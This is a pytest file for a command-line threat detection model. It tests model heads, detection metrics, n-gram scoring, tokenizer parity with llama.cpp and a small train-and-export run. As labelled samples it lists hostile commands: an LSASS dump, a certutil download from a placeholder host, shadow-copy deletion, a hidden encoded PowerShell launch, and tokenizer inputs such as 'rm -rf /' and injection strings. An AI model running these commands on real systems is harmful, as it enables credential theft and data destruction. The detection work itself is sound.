"""The sentinel's recipe from vocabulary to exported files: what its numbers mean, that llama.cpp
reads a text as training did, and that a small run learns something and is exported."""

import json
import random
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from appliance.detect.sentinel.heads import About, Heads
from appliance.errors import ModelError
from appliance.inference.client import SentinelClient
from appliance.inference.manifest import hash_file
from appliance.inference.ngrams import COLUMNS, ORDINARY, Ngrams, TechniqueNgrams
from models.sentinel.augment import augment_text
from models.sentinel.heads import list_tactics, read_techniques, write_heads
from models.sentinel.measures import fit_temperature, list_figures, measure_auroc, measure_recall
from models.sentinel.ngrams import (
    ALL,
    apply_scores,
    cross_fit,
    fit_techniques,
    list_grams,
    weigh_columns,
    write_ngrams,
    write_techniques,
)
from models.sentinel.options import Options
from models.sentinel.rows import Example, write_rows
from models.sentinel.training import share_techniques, weigh_rows

TRAIN = "the extra 'train' (torch, tokenizers) is not installed"
WIDTH = 64
ATTACK_SOURCE = "evtx-attack-samples"
BACKGROUND = "security-datasets"


def make_row(text: str, label: int | None = 0, **more: Any) -> Example:
    kind = text.split(" ", 1)[0]
    given = {"source": "made-up", "group": text, "shape": "sysmon1", "os": "windows"} | more
    return Example(text=text, kind=kind, label=label, **given)


def make_heads(seed: int = 3) -> tuple[dict[str, Any], About]:
    draw = np.random.default_rng(seed)
    shapes = {
        "malicious.weight": (1, WIDTH),
        "malicious.bias": (1,),
        "technique.weight": (2, WIDTH),
        "technique.bias": (2,),
        "tactic.weight": (14, WIDTH),
        "tactic.bias": (14,),
        "project.weight": (384, WIDTH),
    }
    tensors = {name: draw.normal(size=shape).astype(np.float32) for name, shape in shapes.items()}
    tactics = tuple(f"tactic-{number}" for number in range(14))
    return tensors, About(("T1003.001", "T1105"), tactics, {"1": 0.9}, temperature=2.0)


# Heads


def test_heads_come_back_as_written_and_the_safetensors_package_reads_them(tmp_path: Path) -> None:
    tensors, about = make_heads()
    path = tmp_path / "heads.safetensors"
    found = write_heads(path, tensors, about)
    assert found.about == about
    vectors = np.random.default_rng(1).normal(size=(5, WIDTH)).astype(np.float32)
    logits = vectors @ tensors["malicious.weight"][0] + tensors["malicious.bias"][0]
    np.testing.assert_allclose(found.score(vectors), 1 / (1 + np.exp(-logits / 2.0)), rtol=1e-5)
    numpy_reader = pytest.importorskip("safetensors.numpy", reason="the extra 'build'")
    read = numpy_reader.load_file(path)
    assert set(read) == set(tensors)
    for name, tensor in tensors.items():
        np.testing.assert_array_equal(read[name], tensor)
    first = path.read_bytes()
    write_heads(path, tensors, about)
    assert path.read_bytes() == first


@pytest.mark.parametrize("name", ["malicious.weight", "technique.bias", "project.weight"])
def test_heads_that_the_product_would_refuse_are_not_written(tmp_path: Path, name: str) -> None:
    path = tmp_path / "heads.safetensors"
    tensors, about = make_heads()
    tensors[name] = tensors[name][..., :-1]
    with pytest.raises(ModelError):
        write_heads(path, tensors, about)
    tensors, about = make_heads()
    tensors[name][..., 0] = np.nan
    with pytest.raises(ModelError, match="not finite"):
        write_heads(path, tensors, about)
    assert not path.exists()


def test_live_techniques_are_read_with_their_tactics(tmp_path: Path) -> None:
    write_attack(tmp_path)
    techniques = read_techniques(tmp_path)
    assert [technique.id for technique in techniques] == sorted(ATTACKS)
    assert techniques[0].text == "T1003.001: Adversaries may do T1003.001."
    assert list_tactics(techniques) == ["credential-access", "execution", "impact"]


# Measures


def test_auroc_is_the_share_of_pairs_in_order() -> None:
    draw = np.random.default_rng(5)
    scores = draw.integers(0, 6, 60).astype(np.float64)
    labels = draw.integers(0, 2, 60)
    pairs = [
        1.0 if a > b else 0.5 if a == b else 0.0
        for a in scores[labels == 1]
        for b in scores[labels == 0]
    ]
    assert measure_auroc(scores, labels) == pytest.approx(np.mean(pairs))
    assert np.isnan(measure_auroc(scores, np.zeros(60, np.int64)))


def test_recall_counts_what_is_above_the_allowed_share_of_ordinary_scores() -> None:
    labels = np.array([0] * 100 + [1] * 4)
    scores = np.array([*range(100), 97.5, 98.5, 99.5, 5.0], np.float64)
    assert measure_recall(scores, labels, 0.0) == 0.25
    assert measure_recall(scores, labels, 0.01) == 0.5
    assert measure_recall(scores, labels, 0.02) == 0.75


def test_the_temperature_of_logits_twice_too_large_is_two() -> None:
    draw = np.random.default_rng(2)
    logits = draw.normal(0, 2, 20_000)
    labels = (draw.random(20_000) < 1 / (1 + np.exp(-logits))).astype(np.float64)
    assert fit_temperature(2 * logits, labels, np.ones(20_000)) == pytest.approx(2.0, rel=0.1)


def test_figures_take_the_background_of_captures_for_attacks_without_a_label() -> None:
    rows = [
        make_row(
            f"process : a{n}", None, split="test", source="evtx-attack-samples", attack_event=True
        )
        for n in range(10)
    ] + [
        make_row(f"process : b{n}", 0, split="test", source="security-datasets") for n in range(10)
    ]
    rows.append(make_row("process : c", 0, split="train", source="security-datasets"))
    scores = np.array([1.0] * 10 + [0.0] * 10 + [9.0])
    figures = list_figures(rows, {"x": scores})
    assert [line["split"] for line in figures] == ["captures", "captures"]
    assert figures[0]["attacks"] == figures[0]["ordinary"] == 10
    assert figures[0]["x"] == {"auroc": 1.0, "recall_1%": 1.0, "recall_0.1%": 1.0}


def test_weights_make_the_labels_of_a_kind_count_alike() -> None:
    rows = [make_row("process : x", 1)] * 20 + [make_row("process : y", 0)] * 80
    weights = weigh_rows(rows)
    assert weights[:20].sum() == pytest.approx(weights[20:].sum())
    assert weights.mean() == pytest.approx(1.0)


def test_techniques_of_an_ordinary_row_and_unknown_ones_are_none() -> None:
    rows = [
        make_row("process : x", 1, techniques=["T1105", "T9999", "T1003.001"]),
        make_row("process : y", 0, techniques=["T1105"]),
    ]
    index, share = share_techniques(rows, ["T1003.001", "T1105"])
    assert index[0, :2].tolist() == [1, 0]
    assert share.sum(1).tolist() == [1.0, 0.0]


@pytest.mark.parametrize(("noise", "low", "high"), [(0.0, 0.9, 1.0), (9.0, 0.0, 0.2)])
def test_the_teachers_share_follows_who_is_right_on_valid(
    noise: float, low: float, high: float
) -> None:
    from models.sentinel.teacher import choose_share

    draw = np.random.default_rng(3)
    rows = [make_row(f"process : {n}", n % 2, split="valid") for n in range(400)]
    right = np.array([3.0 if row.label else -3.0 for row in rows], np.float32)
    blind = draw.normal(0, 0.5, 400).astype(np.float32)
    shaken = right + draw.normal(0, noise, 400).astype(np.float32) if noise else right
    known = np.ones(400, bool)
    plain, other = (blind, shaken) if noise == 0.0 else (right, shaken)
    assert low <= choose_share(rows, plain, other, known) <= high
    assert choose_share(rows, plain, other, ~known) == 0.0


# N-grams


def test_grams_are_those_of_each_text_alone() -> None:
    texts = ["process : whoami", "", "ab", "process : whoami", "net user"]
    table = list_grams(texts)
    assert len(table) == len(texts)
    sizes = np.diff(table.starts)
    assert sizes[1:3].tolist() == [0, 1]
    assert sizes[0] == sizes[3] > 30
    for row, text in enumerate(texts):
        alone = list_grams([text])
        taken = table.take(np.array([row]))
        np.testing.assert_array_equal(taken.columns, alone.columns)
    distinct = {texts[0][at : at + n] for n in range(2, 7) for at in range(17 - n)}
    assert sizes[0] == len(distinct)  # of so few none share a column


def test_a_row_of_grams_has_length_one_and_the_constant_is_added() -> None:
    table = list_grams(["process : whoami", ""])
    coefficients = np.zeros(COLUMNS + 1, np.float32)
    coefficients[-1] = 0.5
    assert apply_scores(table, weigh_columns(table), coefficients).tolist() == [0.5, 0.5]


def test_regressions_are_of_other_groups_and_come_back_as_the_product_runs_them(
    tmp_path: Path,
) -> None:
    pytest.importorskip("torch", reason=TRAIN)
    texts = [
        f"process : {word} {n}" for n in range(40) for word in ("whoami /all", "notepad a.txt")
    ]
    labels = np.array([1.0, 0.0] * 40, np.float32)
    folds = np.repeat(np.arange(40) % 4, 2)
    fitted = np.arange(80) < 72
    folds[~fitted] = ALL
    table = list_grams(texts)
    found = cross_fit(table, labels, np.ones(80, np.float32), fitted, folds)
    assert sorted(found.coefficients) == [ALL, 0, 1, 2, 3]
    scores = found.score(table, folds)
    assert ((scores > 0) == (labels > 0)).all()
    # The regression of a fold did not see its rows: turning their labels changes nothing for them.
    turned = np.where(folds == 2, 1 - labels, labels).astype(np.float32)
    again = cross_fit(table, turned, np.ones(80, np.float32), fitted, folds)
    np.testing.assert_array_equal(again.coefficients[2], found.coefficients[2])
    assert (again.coefficients[1] != found.coefficients[1]).any()
    write_ngrams(tmp_path / "one.npz", found)
    product = Ngrams.parse((tmp_path / "one.npz").read_bytes(), "one.npz")
    whole = found.score(table, np.full(80, ALL))
    np.testing.assert_allclose([product.weigh(text) for text in texts], whole, atol=1e-4)
    kept = (tmp_path / "one.npz").read_bytes()
    write_ngrams(tmp_path / "one.npz", found)
    assert (tmp_path / "one.npz").read_bytes() == kept
    write_ngrams(tmp_path / "one.npz", found, texts[:3])
    product = Ngrams.parse((tmp_path / "one.npz").read_bytes(), "one.npz")
    assert [product.weigh(text) == ORDINARY for text in texts[:4]] == [True] * 3 + [False]


def test_techniques_are_learnt_from_grams(tmp_path: Path) -> None:
    pytest.importorskip("torch", reason=TRAIN)
    words = ("whoami /all", "reg add hklm", "schtasks /create")
    texts = [f"process : {word} {n}" for n in range(30) for word in words]
    index = np.tile(np.array([[0, 0], [1, 0], [2, 1]]), (30, 1))
    share = np.tile(np.array([[1, 0], [1, 0], [0.75, 0.25]], np.float32), (30, 1))
    write_techniques(tmp_path / "t.npz", *fit_techniques(texts, index, share, 4))
    kept = (tmp_path / "t.npz").read_bytes()
    product = TechniqueNgrams.parse(kept, "t.npz")
    assert product.count == 4
    for word, expected in zip(words, range(3), strict=True):
        logits = product.weigh(f"process cmd.exe : {word} 99")
        assert int(np.argmax(logits)) == expected
        assert int(np.argmin(logits)) == 3  # which no text has
    write_techniques(tmp_path / "t.npz", *fit_techniques(texts, index, share, 4))
    assert (tmp_path / "t.npz").read_bytes() == kept


# Augmentation


def test_augmentation_keeps_kind_and_form_and_is_bounded() -> None:
    text = 'process explorer.exe > cmd.exe : cmd /c "net user" -a one -b two ' + "x" * 430
    draw = np.random.default_rng(4)
    seen = {augment_text(text, ["process : ordinary words here"], draw) for _ in range(300)}
    assert len(seen) > 20
    assert all(found.startswith("process ") and " : " in found for found in seen)
    assert max(map(len, seen)) <= 512
    assert any("explorer.exe" not in found for found in seen)


@pytest.mark.parametrize("text", ["", "no form", "process", "\x00 > : :"])
def test_augmentation_leaves_other_texts_alone(text: str) -> None:
    assert augment_text(text, [], np.random.default_rng(1)) == text


# Vocabulary and network, against llama.cpp


HOSTILE = (
    "", " ", "\x00", "a\x00b", "[SEP]", "x [CLS] y", "##ing", "\u2581word", "caf\u00e9 na\u00efve",
    "\u0130stanbul", "\u4f60\u597d cmd", "\ud800", "e\u0301", "\U0001f600 rm -rf /",
    "\u200bhid\u200bden",
    "\u00a0blank", "\ufffd", "x" * 150, "a" * 99 + " b", "\x1b[31mred\x1b[0m", "%00%0d%0a",
    "`id`;$(x)",
    "{{7*7}}|<script>", "c:\\windows\\xxsys\\cmd.exe", "\u202eexe.txt", "a\u0300\u0301b",
    "\x85next",
    "\t\r\nmixed", "'\"\\", "~^_=+<>|", "1e10 0xff", "\u0660\u0661", "\u00df\u017f", "\u2126 ohm",
)  # fmt: skip


def list_texts() -> list[str]:
    draw = random.Random(8)
    words = [
        "powershell", "-enc", "xxb64", "svchost.exe", "-k", "netsvcs", "/c", "whoami", "xxuser",
        "\\users\\xxuser\\appdata", "hklm\\software", "--", "||", "http://xxsite/a?b=c",
        "t\u00e9st",
    ]  # fmt: skip
    made = [" ".join(draw.choices(words, k=draw.randint(1, 60))) for _ in range(120)]
    wild = [
        "".join(chr(draw.choice([draw.randint(1, 126), draw.randint(1, 0x2FF)])) for _ in range(40))
        for _ in range(60)
    ]
    return [*HOSTILE, *made, *wild]


@pytest.fixture(scope="module")
def vocabulary() -> list[str]:
    pytest.importorskip("tokenizers", reason=TRAIN)
    from models.sentinel.tokenizer import learn_vocabulary

    return learn_vocabulary(list_texts() * 3, 900)


def test_every_ascii_word_has_tokens(vocabulary: list[str]) -> None:
    from models.sentinel.tokenizer import SPECIAL, encode_texts, open_tokenizer

    assert vocabulary[:5] == list(SPECIAL)
    assert len(set(vocabulary)) == len(vocabulary) <= 900
    text = "".join(chr(code) for code in range(0x20, 0x7F)) + " qzxjv09 zz9zz"
    (ids,) = encode_texts(open_tokenizer(vocabulary), [text])
    assert SPECIAL.index("[UNK]") not in ids.tolist()


@pytest.fixture(scope="module")
def untrained(vocabulary: list[str], tmp_path_factory: pytest.TempPathFactory) -> Any:
    """A config, weights and the GGUF file of them."""
    pytest.importorskip("torch", reason=TRAIN)
    pytest.importorskip("gguf", reason="the extra 'build'")
    from appliance.inference.gguf_encoder import name_tensors, write_gguf
    from models.sentinel.bert import make_config, make_weights

    config = make_config(2, 128, len(vocabulary), 96)
    weights = make_weights(config, 5)
    path = tmp_path_factory.mktemp("untrained") / "x.gguf"
    tensors = name_tensors({name: 5 * value.numpy() for name, value in weights.items()})
    write_gguf(path, config, vocabulary, tensors, name="x", licence="x", weights="F32")
    return config, {name: 5 * value for name, value in weights.items()}, path


def test_llama_cpp_gives_the_ids_that_training_saw(vocabulary: list[str], untrained: Any) -> None:
    from models.sentinel.llama import Runner
    from models.sentinel.tokenizer import encode_texts, open_tokenizer

    texts = list_texts()
    assert len(texts) >= 200
    runner = Runner(untrained[2], 96, 1)
    ours = encode_texts(open_tokenizer(vocabulary), texts)
    other = [
        text for text, ids in zip(texts, ours, strict=True) if runner.tokenize(text) != ids.tolist()
    ]
    runner.close()
    assert other == []


def test_llama_cpp_gives_the_vectors_that_training_saw(
    vocabulary: list[str], untrained: Any
) -> None:
    from models.sentinel.llama import Runner
    from models.sentinel.student import pool_all
    from models.sentinel.tokenizer import encode_texts, open_tokenizer

    config, weights, path = untrained
    texts = list_texts()
    expected = pool_all(config, weights, encode_texts(open_tokenizer(vocabulary), texts))
    for sequences in (1, 4):
        runner = Runner(path, 96, sequences)
        found = runner.pool_texts(texts)
        runner.close()
        lengths = np.linalg.norm(found, axis=1) * np.linalg.norm(expected, axis=1)
        cosines = (found * expected).sum(1) / lengths
        assert cosines.min() > 0.999
        ratio = np.linalg.norm(found, axis=1) / np.linalg.norm(expected, axis=1)
        assert np.abs(ratio - 1).max() < 0.01  # the mean is not normalised


# The whole, small


ATTACKS = {
    "T1003.001": "rundll32 comsvcs.dll minidump lsass",
    "T1105": "certutil -urlcache -f http://xxsite/a b.exe",
    "T1490": "vssadmin delete shadows /all /quiet",
    "T1059.001": "powershell -nop -w hidden -enc xxb64",
}


def make_examples() -> list[Example]:
    draw = random.Random(6)
    ordinary = [
        "svchost.exe -k netsvcs -p",
        "chrome.exe --type=renderer",
        "git status",
        "ping xxhost",
    ]
    rows = []
    for number in range(700):
        split = ("train", "train", "train", "valid", "test")[number % 5]
        noise = "".join(draw.choices("abcdefgh", k=6))
        technique, attack = draw.choice(sorted(ATTACKS.items()))
        if number % 3 == 0:
            text, label, named = f"process cmd.exe : {attack} {noise}", 1, [technique]
        else:
            text, label, named = f"process cmd.exe : {draw.choice(ordinary)} {noise}", 0, []
        rows.append(make_row(text, label, split=split, techniques=named, group=str(number)))
    rows += [make_row(f"process : unknown {n}", None) for n in range(20)]
    return rows


def write_attack(data: Path) -> None:
    tactics = ("credential-access", "impact", "execution", "impact")
    objects: list[dict[str, Any]] = [
        {
            "type": "attack-pattern",
            "name": name,
            "description": f"Adversaries may do {name}.",
            "external_references": [{"source_name": "mitre-attack", "external_id": name}],
            "kill_chain_phases": [{"kill_chain_name": "mitre-attack", "phase_name": tactic}],
        }
        for name, tactic in zip(ATTACKS, tactics, strict=True)
    ]
    objects.append(objects[0] | {"revoked": True, "name": "old"})
    folder = data / "knowledge" / "mitre-attack"
    folder.mkdir(parents=True)
    (folder / "enterprise-attack.json").write_text(json.dumps({"objects": objects}))


def test_a_small_run_learns_and_exports(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("torch", "tokenizers"):
        pytest.importorskip(name, reason=TRAIN)
    pytest.importorskip("gguf", reason="the extra 'build'")
    from models.sentinel import export, student, teacher, tokenizer

    monkeypatch.setattr(student, "SMALL", student.Plan(passes=8.0, batch=32, max_rows=600))
    monkeypatch.setattr(teacher, "SMALL", teacher.Plan(max_examples=64, max_scored=200, tokens=32))
    data, work = tmp_path / "data", tmp_path / "work"
    work.mkdir()
    write_attack(data)
    rows = make_examples()
    write_rows(work / "examples.jsonl", rows)
    options = Options(data, work, small=True)
    for stage in (tokenizer, teacher, student, export):
        stage.run(options)
    assert not list(work.glob("*.checkpoint.*"))
    manifest = json.loads((work / "sentinel.json").read_bytes())
    for name, expected in manifest["files"].items():
        assert hash_file(work / name) == expected
    heads = Heads.parse((work / "sentinel.heads.safetensors").read_bytes(), "heads")
    shown = [row for row in rows if row.split == "test"]
    client = SentinelClient(work / "sentinel.gguf")
    client.start()
    client.wait_ready(60.0)
    vectors = client.embed([row.text for row in shown])
    client.close()
    labels = np.array([row.label for row in shown])
    assert measure_auroc(heads.score(vectors), labels) > 0.9
    right = [
        heads.guess_techniques(vector)[0][0] == row.techniques[0]
        for vector, row in zip(vectors, shown, strict=True)
        if row.label == 1
    ]
    assert len(right) > 20
    # Of four, after seconds of training whose last digits differ from machine to machine.
    assert np.mean(right) > 0.4
    parities = json.loads((work / "export.json").read_bytes())
    for parity in parities:
        assert parity["other_ids"] == 0
        if parity["weights"] in ("F32", "Q8_0"):
            assert parity["lowest_cosine"] > 0.999
    # Files about other rows are refused, not used.
    write_rows(work / "examples.jsonl", rows[1:])
    with pytest.raises(ValueError, match="other rows"):
        student.run(options)


def test_training_goes_on_from_its_checkpoint(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    torch = pytest.importorskip("torch", reason=TRAIN)
    from models.sentinel import training

    goal = torch.arange(6.0).reshape(2, 3)

    def train(stop: int | None) -> tuple[list[int], Any]:
        weights = {"w": torch.zeros(2, 3)}
        steps: list[int] = []

        def measure_loss(step: int, _batch: int) -> Any:
            if step == stop:
                raise KeyboardInterrupt
            steps.append(step)
            return ((weights["w"] - goal) ** 2).sum()

        try:
            training.train_weights(
                weights,
                {"w": 0.1},
                range(40),
                measure_loss,
                steps=40,
                checkpoint=tmp_path / "c",
                stamp="stamp",
                say=print,
            )
        except KeyboardInterrupt:
            return steps, None
        return steps, weights["w"]

    _, whole = train(None)
    monkeypatch.setattr(training, "_CHECKPOINT_S", -1.0)
    done, _ = train(25)
    rest, resumed = train(None)
    assert done == list(range(25))
    assert rest == list(range(25, 40))
    assert torch.allclose(whole, resumed, atol=1e-6)
    assert not (tmp_path / "c").exists()
